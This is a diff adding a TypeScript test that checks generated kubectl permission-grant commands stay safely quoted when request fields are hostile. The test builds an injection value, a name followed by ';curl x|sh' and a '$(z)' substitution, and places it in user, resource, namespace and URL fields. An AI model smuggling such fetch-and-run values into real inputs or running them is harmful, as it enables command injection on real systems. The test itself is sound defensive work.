@@ -84,6 +84,26 @@ test('the lines for the command are such as it reads', () => {
   }))).toEqual(Object.keys(read).map((option) => ({ option, some: true, wrong: [] })));
 });
 
+test('a shell reads a name of a message as one word, whatever it is', () => {
+  const hostile = (name: string) => `${name};curl x|sh 'y' $(z)`;
+  const requests = everyRequest().map((request): RefusedRequest => ({
+    ...request,
+    user: request.user?.replace(/:builds:|:ops:/, `:${hostile('ops')}:`),
+    ...request.resource?.endsWith('jobs') === true && { resource: hostile(request.resource) },
+    ...request.resourceName !== undefined && { resourceName: hostile(request.resourceName) },
+    ...request.nonResourceURL !== undefined && { nonResourceURL: hostile(request.nonResourceURL) },
+    ...request.place.kind === 'namespace' && { place: { kind: 'namespace', namespace: hostile(request.place.namespace) } },
+  }));
+  const commands = requests.flatMap((request) => {
+    const account = whoseAccount(request);
+    return askingParts(request, { role: account.role, context: {} })
+      .flatMap((part) => grantLines(part, { request, account, version: ArgoVersion.V4_1 })?.command.split('\n') ?? []);
+  });
+  const unquoted = (command: string) => command.replace(/'[^']*'|\\'/g, '').replace(/ \| kubectl apply -f -$/, '');
+  expect(commands.filter((command) => command.includes('curl')).length).toBeGreaterThan(100);
+  expect(commands.filter((command) => !/^[\w@%+=:,./ -]*$/.test(unquoted(command)))).toEqual([]);
+});
+
 test('the rules allow what was refused', () => {
   const lacking = everyRequest().flatMap((request) => {
     const account = whoseAccount(request);
